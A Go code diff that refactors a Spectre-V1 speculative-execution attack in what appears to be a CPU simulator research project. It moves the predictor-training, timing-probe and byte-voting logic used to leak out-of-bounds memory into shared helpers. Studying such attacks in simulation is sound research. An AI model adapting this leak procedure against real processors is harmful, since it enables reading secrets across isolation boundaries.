@@ -6,7 +6,6 @@ import (
 	"whisper/internal/cpu"
 	"whisper/internal/isa"
 	"whisper/internal/kernel"
-	"whisper/internal/stats"
 )
 
 // v1CodeBase isolates the Spectre-V1 gadget's code.
@@ -103,63 +102,33 @@ func (a *SpectreV1) run(idx, test uint64, flushLen bool) (uint64, error) {
 	p.SetReg(isa.RDX, test)
 	p.SetReg(isa.R10, a.lenVA)
 	p.SetReg(isa.R11, a.arrVA)
-	for attempt := 0; attempt < 4; attempt++ {
-		if _, err := p.Exec(a.prog, maxProbeCycles); err != nil {
-			return 0, fmt.Errorf("core: TET-V1 run: %w", err)
-		}
-		if t1, t2 := p.Reg(isa.RSI), p.Reg(isa.RDI); t2 >= t1 {
-			return t2 - t1, nil
-		}
-	}
-	return 0, fmt.Errorf("core: TET-V1 timer unusable")
+	return ToTE(p, a.prog)
 }
 
-// LeakByte recovers the byte at arr[idx] for an out-of-bounds idx.
+// LeakByte recovers the byte at arr[idx] for an out-of-bounds idx. The
+// bounds check is trained before the first warm-up probe and again before
+// every real one: each OOB probe resolves "taken" and would otherwise
+// saturate the predictor and close the speculation window (standard V1
+// discipline).
 func (a *SpectreV1) LeakByte(idx uint64) (byte, error) {
-	// Warm up code and predictor state.
-	if err := a.train(); err != nil {
-		return 0, err
-	}
-	for i := 0; i < 16; i++ {
-		if _, err := a.run(idx, 256, true); err != nil {
-			return 0, err
-		}
-	}
-	votes := make([]int, 256)
-	totes := make([]uint64, 256)
-	for batch := 0; batch < a.Batches; batch++ {
-		for tv := 0; tv < 256; tv++ {
-			// Re-train the bounds check before every probe: each OOB probe
-			// resolves "taken" and would otherwise saturate the predictor
-			// and close the speculation window (standard V1 discipline).
+	trained := false
+	return decoder{warmup: 16, batches: a.Batches, sign: SignShorter}.decode(a.m, func(test uint64) (uint64, error) {
+		if !trained || test < 256 { // test 256 is the warm-up's never-matching value
 			if err := a.train(); err != nil {
 				return 0, err
 			}
-			t, err := a.run(idx, uint64(tv), true)
-			if err != nil {
-				return 0, err
-			}
-			totes[tv] = t
+			trained = true
 		}
-		votes[stats.Argmin(totes)]++
-	}
-	return byte(stats.ArgmaxInt(votes)), nil
+		return a.run(idx, test, true)
+	})
 }
 
 // Leak reads n bytes starting at the given out-of-bounds offset from the
 // array base.
 func (a *SpectreV1) Leak(offset uint64, n int) (LeakResult, error) {
-	start := a.m.Pipe.Cycle()
-	out := make([]byte, n)
-	for i := 0; i < n; i++ {
-		b, err := a.LeakByte(offset + uint64(i))
-		if err != nil {
-			return LeakResult{}, fmt.Errorf("core: TET-V1 byte %d: %w", i, err)
-		}
-		out[i] = b
-	}
-	cycles := a.m.Pipe.Cycle() - start
-	return LeakResult{Data: out, Cycles: cycles, Bps: a.m.Bps(n, cycles)}, nil
+	return LeakBytes(a.m, "TET-V1", n, func(i int) (byte, error) {
+		return a.LeakByte(offset + uint64(i))
+	})
 }
 
 // ArrayVA returns the bounded array's base address (the secret sits beyond
